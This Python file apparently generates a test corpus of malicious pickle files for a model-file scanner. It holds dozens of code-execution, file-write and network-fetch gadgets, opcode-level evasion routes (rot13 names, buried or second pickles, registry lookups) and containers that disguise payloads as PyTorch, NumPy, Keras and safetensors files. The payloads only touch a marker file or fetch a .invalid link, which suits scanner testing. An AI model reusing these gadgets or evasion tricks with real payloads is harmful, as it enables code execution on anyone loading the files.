"""Pickles that nobody published: gadgets of the standard library and of libraries for models, each by several routes of
opcodes and in several containers. Every payload only touches, opens or asks for something called MARK."""
import bz2
import collections
import gzip
import io
import lzma
import pickle
import random
import struct
import zipfile
import zlib

import wire

MARK = "palisade-ran"
SHELL = "touch " + MARK
CODE = "open('%s', 'w').close()" % MARK
EXPRESSION = "open('%s', 'w')" % MARK
LINK = "http://%s.invalid/x" % MARK

Global = collections.namedtuple("Global", "module name")
Call = collections.namedtuple("Call", "what arguments")
Build = collections.namedtuple("Build", "what state")
Keep = collections.namedtuple("Keep", "key what")
Again = collections.namedtuple("Again", "key")


def call(path, *arguments):
    """call("module:name", ...): the name may be dotted, which loaders follow from protocol 4 on."""
    return Call(Global(*path.split(":")), arguments)


MAILCAP = ({"a/b": [{"view": "x", "test": SHELL}]}, "a/b")
INI = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"

# What runs, writes, reads or connects when it is loaded; name -> what the pickle does. The first group was loaded for
# real where its library is installed (build.py --run), the second names libraries that are not.
HERE = {
    "mailcap": call("mailcap:findmatch", *MAILCAP),
    "mailcap-reduce": call("functools:reduce", Global("mailcap", "findmatch"), list(MAILCAP)),
    "mailcap-starmap": call("collections:deque", call("itertools:starmap", Global("mailcap", "findmatch"), [MAILCAP])),
    "mailcap-exit": ((call("contextlib:ExitStack.callback", Keep("s", call("contextlib:ExitStack")),
                           Global("mailcap", "findmatch"), *MAILCAP)), call("contextlib:ExitStack.close", Again("s"))),
    "mailcap-finalize": (call("weakref:finalize", call("builtins:set"), Global("mailcap", "findmatch"), *MAILCAP),),
    "mailcap-sched": ((call("sched:scheduler.enter", Keep("s", call("sched:scheduler")), 0, 0,
                            Global("mailcap", "findmatch"), MAILCAP)), call("sched:scheduler.run", Again("s"))),
    "mailcap-safefunction": Call(call("joblib._parallel_backends:SafeFunction", Global("mailcap", "findmatch")), MAILCAP),
    "mailcap-funcwrapper": Call(call("sklearn.utils.parallel:_FuncWrapper", Global("mailcap", "findmatch")), MAILCAP),
    "mailcap-vectorize": Call(call("numpy:vectorize", Global("mailcap", "findmatch")), MAILCAP),
    "mailcap-pipe": call("pandas.core.common:pipe", MAILCAP[0], Global("mailcap", "findmatch"), "a/b"),
    "create-fn": call("dataclasses:_create_fn", "f", ["a=" + EXPRESSION], ["pass"]),
    "forward-ref": call("typing:ForwardRef._evaluate", call("typing:ForwardRef", EXPRESSION), {}, {}, frozenset()),
    "type-hints": call("typing:get_type_hints", Build(call("argparse:Namespace"), {"__annotations__": {"a": EXPRESSION}})),
    "measure": call("numpy.testing:measure", CODE),
    "function-maker": call("scipy._lib.decorator:FunctionMaker.create", "f(a=%s)" % EXPRESSION, "return a", {}),
    "forward-from-src": call("torch.fx.graph_module:_forward_from_src", CODE + "\ndef forward(self): pass\n", {}),
    "exec-with-source": call("torch.fx.graph_module:_exec_with_source", CODE, {}),
    "reduce-graph-module": call("torch.fx.graph_module:reduce_graph_module",
                                {"_code": "def forward(self): pass", "_graphmodule_cls_name": "g"}, CODE + "\n"),
    "benchmark-timer": call("torch.utils.benchmark:Timer.timeit", call("torch.utils.benchmark:Timer", CODE), 1),
    "dotted-pandas-os": call("pandas.io.common:os.system", SHELL),
    "dotted-sklearn-os": call("sklearn.datasets._base:os.system", SHELL),
    "dotted-numpy-os": call("numpy.lib.npyio:os.popen", SHELL),
    "dotted-calendar-sys": Call(call("calendar:sys.modules.__getitem__", "os"), ()),
    "dotted-glob-os": call("statistics:random._os.system", SHELL),
    "dotted-loky": call("joblib.externals.loky.backend.context:subprocess.check_output", ["touch", MARK]),
    "dotted-gzip": call("gettext:os.popen", SHELL),
    "optional-import": call("pandas.compat._optional:import_optional_dependency", "antigravity"),
    "entry-sax": call("xml.sax:parse", LINK, call("xml.sax.handler:ContentHandler")),
    "etree-parse": call("xml.etree.ElementTree:parse", MARK),
    "minidom-parse": call("xml.dom.minidom:parse", MARK),
    "lzma-open": call("lzma:open", MARK, "w"),
    "bz2-file": call("bz2:BZ2File", MARK, "w"),
    "gzip-file": call("gzip:GzipFile", MARK, "w"),
    "wave-open": call("wave:open", MARK, "wb"),
    "dbm-dumb": call("dbm.dumb:open", MARK, "c"),
    "mbox": call("mailbox:mbox", MARK),
    "netrc": call("netrc:netrc", MARK),
    "config-read": call("configparser:RawConfigParser.read", call("configparser:RawConfigParser"), MARK),
    "tokenize-open": call("tokenize:open", MARK),
    "codecs-open": call("codecs:open", MARK, "w"),
    "path-touch": call("pathlib:Path.touch", call("pathlib:PosixPath", MARK)),
    "path-write": call("pathlib:Path.write_bytes", call("pathlib:PosixPath", MARK), b"x"),
    "pstats": call("pstats:Stats", MARK),
    "memmap": call("numpy:memmap", MARK, "uint8", "w+", 0, (4,)),
    "savetxt": call("numpy:savetxt", MARK, [1]),
    "fromfile": call("numpy:fromfile", MARK),
    "genfromtxt": call("numpy:genfromtxt", LINK),
    "data-source": call("numpy:DataSource.open", call("numpy:DataSource"), LINK),
    "load-library": call("numpy.ctypeslib:load_library", MARK, "."),
    "loadmat": call("scipy.io:loadmat", MARK),
    "savemat": call("scipy.io:savemat", MARK, {}),
    "svmlight": call("sklearn.datasets:load_svmlight_file", MARK),
    "load-files": call("sklearn.datasets:load_files", MARK),
    "openml": call("sklearn.datasets:fetch_openml", MARK),
    "read-fwf": call("pandas:read_fwf", MARK),
    "get-handle": call("pandas.io.common:get_handle", MARK, "w"),
    "h5-file": call("h5py:File", MARK, "w"),
    "model-zoo": call("torch.utils.model_zoo:load_url", LINK),
    "torch-library": call("torch._ops:_Ops.load_library", call("torch._ops:_Ops"), "./" + MARK),
    "http-server": call("http.cookiejar:MozillaCookieJar.load", call("http.cookiejar:MozillaCookieJar"), MARK),
}
AWAY = {
    "lazy-module": call("transformers.dynamic_module_utils:get_class_from_dynamic_module", "m.C", "a/" + MARK),
    "pipeline": call("transformers.pipelines:pipeline", "text-generation", "a/" + MARK),
    "load-dataset": call("datasets.load:load_dataset", "a/" + MARK),
    "wandb": call("wandb.sdk.wandb_init:init", MARK),
    "mlflow-run": call("mlflow.projects:run", LINK),
    "keras-file": call("keras.src.utils.file_utils:get_file", "x", LINK),
    "tf-write": call("tensorflow.python.ops.gen_io_ops:write_file", MARK, "x"),
    "tf-library": call("tensorflow.python.framework.load_library:load_op_library", "./" + MARK),
    "ort": call("onnxruntime.capi.onnxruntime_inference_collection:InferenceSession", MARK),
    "gensim": call("gensim.utils:unpickle", MARK),
    "spacy": call("spacy.util:load_model", MARK),
    "fsspec": call("fsspec.core:open", LINK),
    "numexpr": call("numexpr.necompiler:evaluate", "1"),
    "cupy": call("cupy._core.raw:RawModule", "x"),
    "numba": call("numba.core.serialize:_rebuild_function", b"x", {}, "m"),
    "ray": call("ray._private.worker:init", LINK),
    "sympify": call("sympy.core.sympify:sympify", EXPRESSION),
    "lambdify": call("sympy.utilities.lambdify:lambdify", "x", EXPRESSION),
    "imread": call("skimage.io:imread", LINK),
    "imwrite": call("cv2:imwrite", MARK, None),
    "invoke": call("invoke:run", SHELL),
    "psutil": call("psutil:Popen", ["touch", MARK]),
    "httpx": call("httpx:get", LINK),
    "boto": call("boto3:client", "s3"),
    "docker": call("docker.client:from_env"),
    "fire": call("fire.core:Fire", SHELL),
    "ipython": call("IPython.utils.process:system", SHELL),
    "pytest": call("_pytest.config:main", [MARK]),
    "import-string": call("werkzeug.utils:import_string", "os:system"),
    "django": call("django.utils.module_loading:import_string", "os.system"),
    "named-any": call("twisted.python.reflect:namedAny", "os.system"),
    "hydra": call("hydra._internal.instantiate._instantiate2:instantiate", {"_target_": "os.system", "_args_": [SHELL]}),
    "jinja": call("jinja2.environment:Template.render", call("jinja2.environment:Template", "{{ 1 }}")),
    "mako": call("mako.template:Template", "<% " + CODE + " %>"),
    "lxml": call("lxml.etree:parse", MARK),
    "ruamel": call("ruamel.yaml.main:unsafe_load", "!!python/object/apply:os.system [x]"),
    "cytoolz": call("cytoolz.functoolz:pipe", SHELL, Global("IPython.utils.process", "system")),
    "gevent": call("gevent.subprocess:check_call", ["touch", MARK]),
    "execnet": call("execnet.multi:makegateway", "popen//python=touch " + MARK),
    "streamlit": call("streamlit.web.bootstrap:run", MARK, False, [], {}),
    "polars": call("polars.io.csv.functions:read_csv", MARK),
    "duckdb": call("duckdb:query", "copy (select 1) to '%s'" % MARK),
    "lightning": call("lightning.fabric.utilities.cloud_io:_load", MARK),
    "accelerate": call("accelerate.utils.launch:simple_launcher", [SHELL]),
    "deepspeed": call("deepspeed.ops.op_builder.builder:OpBuilder.command_exists", None, SHELL),
}


class Emitter:
    """Writes one value as opcodes. `names` is how a global is named, `calls` how one is called."""

    def __init__(self, protocol, names, calls):
        self.out, self.protocol, self.names, self.calls = io.BytesIO(), protocol, names, calls
        self.memo, self.kept, self.codes = 300, {}, 0

    def write(self, b):
        self.out.write(b)

    def text(self, s):
        raw = s.encode()
        if self.protocol == 0:
            self.write(b"V" + raw.replace(b"\\", b"\\u005c").replace(b"\n", b"\\u000a") + b"\n")
        elif self.protocol >= 4 and len(raw) < 256:
            self.write(b"\x8c" + bytes([len(raw)]) + raw)
        else:
            self.write(b"X" + struct.pack("<I", len(raw)) + raw)

    def put(self):
        self.memo += 1
        self.write(b"r" + struct.pack("<I", self.memo) if self.protocol else b"p%d\n" % self.memo)
        return self.memo

    def get(self, i):
        self.write(b"j" + struct.pack("<I", i) if self.protocol else b"g%d\n" % i)

    def rotated(self, s):
        """A name that only codecs.decode knows: no string of the pickle says it."""
        self.write(b"c_codecs\ndecode\n(")
        self.text(s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
                                            "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM")))
        self.text("rot13")
        self.write(b"tR")

    def name(self, g):
        if self.names == "text":
            self.write(b"c" + g.module.encode() + b"\n" + g.name.encode() + b"\n")
        elif self.names == "stack":
            self.text(g.module)
            self.text(g.name)
            self.write(b"\x93")
        elif self.names == "memo":
            self.text(g.name)
            i = self.put()
            self.write(b"0")
            self.text(g.module)
            self.get(i)
            self.write(b"\x93")
        elif self.names == "rotated":
            self.rotated(g.module)
            self.rotated(g.name)
            self.write(b"\x93")
        elif self.names == "registry":
            self.codes += 1
            self.value(Call(None, (g.module, g.name, 200 + self.codes)))
            self.write(b"0\x82" + bytes([200 + self.codes]))

    def constant(self, v):
        if v is None:
            self.write(b"N")
        elif isinstance(v, bool):
            self.write(b"I01\n" if v else b"I00\n")
        elif isinstance(v, int):
            self.write(b"I%d\n" % v)
        elif isinstance(v, str):
            self.text(v)
        elif isinstance(v, bytes):
            self.write(b"B" + struct.pack("<I", len(v)) + v)
        elif isinstance(v, frozenset):
            self.write(b"cbuiltins\nfrozenset\n(tR")
        else:
            raise TypeError(v)

    def invoke(self, c):
        if c.what is None:  # copyreg.add_extension, for names in the registry
            self.write(b"ccopyreg\nadd_extension\n")
            self.group(c.arguments)
            self.write(b"R")
        elif self.calls == "inst" and isinstance(c.what, Global):
            self.write(b"(")
            for a in c.arguments:
                self.value(a)
            self.write(b"i" + c.what.module.encode() + b"\n" + c.what.name.encode() + b"\n")
        elif self.calls == "obj" and c.arguments:
            self.write(b"(")
            self.value(c.what)
            for a in c.arguments:
                self.value(a)
            self.write(b"o")
        elif self.calls == "partial":  # an innocent partial, whose function is replaced by BUILD
            self.write(b"cfunctools\npartial\n(cbuiltins\nlen\ntR(")
            self.value(c.what)
            self.group(c.arguments)
            self.write(b"}Ntb)R")
        else:
            self.value(c.what)
            self.group(c.arguments)
            self.write(b"R")

    def group(self, items):
        self.write(b"(")
        for i in items:
            self.value(i)
        self.write(b"t")

    def value(self, v):
        if isinstance(v, Global):
            self.name(v)
        elif isinstance(v, Call):
            self.invoke(v)
        elif isinstance(v, Build):
            self.value(v.what)
            self.value(v.state)
            self.write(b"b")
        elif isinstance(v, Keep):
            self.value(v.what)
            self.kept[v.key] = self.put()
        elif isinstance(v, Again):
            self.get(self.kept[v.key])
        elif isinstance(v, tuple):
            self.group(v)
        elif isinstance(v, list):
            self.write(b"(")
            for i in v:
                self.value(i)
            self.write(b"l")
        elif isinstance(v, dict):
            self.write(b"(")
            for k, i in v.items():
                self.value(k)
                self.value(i)
            self.write(b"d")
        else:
            self.constant(v)


# Name of the route -> protocol, how globals are named, how they are called, what stands around the call.
ROUTES = {
    "text": (0, "text", "reduce", ""),
    "stack": (4, "stack", "reduce", ""),
    "stack5": (5, "stack", "reduce", "frame"),
    "memo": (4, "memo", "reduce", ""),
    "rotated": (4, "rotated", "reduce", ""),
    "registry": (2, "registry", "reduce", ""),
    "inst": (0, "text", "inst", ""),
    "obj": (2, "text", "obj", ""),
    "obj4": (4, "stack", "obj", ""),
    "partial": (4, "stack", "partial", ""),
    "dropped": (4, "stack", "reduce", "dropped"),
    "buried": (4, "stack", "reduce", "buried"),
    "second": (4, "stack", "reduce", "second"),
    "no-stop": (4, "stack", "reduce", "no-stop"),
    "late-proto": (4, "text", "reduce", "late-proto"),
}


def write(what, route):
    protocol, names, calls, around = ROUTES[route]
    e = Emitter(protocol, names, calls)
    e.value(what)
    body = e.out.getvalue()
    start = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if around == "frame":
        return start + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
    if around == "dropped":
        return start + body + b"0}\x8c\x01wK\x01s."
    if around == "buried":
        return start + b"}(\x8c\x05layer](K\x01K\x02" + body + b"e\x8c\x04biasNu."
    if around == "second":
        return pickle.dumps({"weights": [1, 2, 3]}, 2) + start + body + b"."
    if around == "no-stop":
        return start + body
    if around == "late-proto":
        return b"\x80\x02}0\x80\x04" + body + b"."
    return start + body + b"."


def is_dotted(what):
    if isinstance(what, Global):
        return "." in what.name
    if isinstance(what, (Call, Build, Keep, tuple, list)):
        return any(is_dotted(i) for i in what if i is not None)
    return False


def routes_of(what):
    """Below protocol 4 a loader does not follow dots, and registered names are looked up with the same code."""
    return [r for r in ROUTES if not is_dotted(what) or (ROUTES[r][0] >= 4 and r != "rotated") or r == "rotated"]


# ---- containers: name -> (bytes -> file), its ending, and how it is loaded to see what happens

def torch_zip(p):
    return wire.zipped([("m/data.pkl", p), ("m/byteorder", b"little"), ("m/data/0", bytes(16)), ("m/version", b"3\n")])


def torch_legacy(p):
    head = [pickle.dumps(v, 2) for v in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True,
                                                                         "type_sizes": {"short": 2, "int": 4, "long": 4}})]
    return b"".join(head) + p + pickle.dumps([], 2)


def npy(p):
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (117 - len(head)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + p


def bad_crc(p):
    b = bytearray(torch_zip(p))
    for mark, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        where = bytes(b).find(mark)
        b[where + at] ^= 0x55
    return bytes(b)


CONTAINERS = {
    "raw": (lambda p: p, ".pkl", "pickle"),
    "no-ending": (lambda p: p, "", "pickle"),
    "as-weights": (lambda p: p, ".safetensors", "pickle"),
    "torch-zip": (torch_zip, ".pt", "torch"),
    "torch-zip-crc": (bad_crc, ".pth", "torch"),
    "torch-legacy": (torch_legacy, ".bin", "torch"),
    "torch-behind": (lambda p: torch_zip(p) + bytes(40), ".ckpt", "torch"),
    "npy": (npy, ".npy", "numpy"),
    "npz": (lambda p: wire.zipped([("a.npy", npy(p))], zipfile.ZIP_DEFLATED), ".npz", "numpy"),
    "joblib-zlib": (lambda p: zlib.compress(p, 3), ".joblib", "joblib"),
    "joblib-gzip": (lambda p: gzip.compress(p, 3, mtime=0), ".gz", "joblib"),
    "joblib-bz2": (bz2.compress, ".bz2", "joblib"),
    "joblib-lzma": (lambda p: lzma.compress(p, lzma.FORMAT_ALONE), ".lzma", "joblib"),
    "joblib-xz": (lzma.compress, ".xz", "joblib"),
    "zip-in-zip": (lambda p: wire.zipped([("a/b.zip", wire.zipped([("model.pkl", p)], zipfile.ZIP_DEFLATED))]), ".zip", None),
    "tar-gz": (lambda p: gzip.compress(wire.tarred([("w/model.pkl", p)]), mtime=0), ".tar.gz", None),
    "nemo": (lambda p: wire.tarred([("model_config.yaml", b"name: m\n"), ("model_weights.ckpt", torch_zip(p))]), ".nemo", None),
    "mar": (lambda p: wire.zipped([("MAR-INF/MANIFEST.json", b'{"model": {"handler": "image_classifier", "serializedFile": '
                               b'"w.pt", "modelName": "m", "modelVersion": "1"}}'), ("w.pt", torch_zip(p))]), ".mar", None),
    "keras-npz": (lambda p: wire.zipped([("metadata.json", b'{"keras_version": "3.9.0"}'), ("config.json", b"{}"),
                                    ("model.weights.npz", wire.zipped([("__root__.npy", npy(p))]))]), ".keras", None),
    "gzip-raw": (lambda p: gzip.compress(gzip.compress(p, mtime=0), mtime=0), ".pkl.gz", None),
}


def malicious(rng):
    """(name, content, threat, loader): each gadget by three routes and containers, each route in each container once."""
    every = {**HERE, **AWAY}
    names = sorted(every)
    for name in names:
        able = routes_of(every[name])
        for route in rng.sample(able, 3):
            box = rng.choice(sorted(CONTAINERS))
            yield one(name, every[name], route, box)
    for box in sorted(CONTAINERS):
        for route in ROUTES:
            able = [n for n in sorted(HERE) if route in routes_of(HERE[n])]
            name = rng.choice(able)
            yield one(name, HERE[name], route, box)


def one(name, what, route, box):
    pack, ending, loader = CONTAINERS[box]
    return ("%s--%s--%s%s" % (name, route, box, ending), pack(write(what, route)), name, loader)

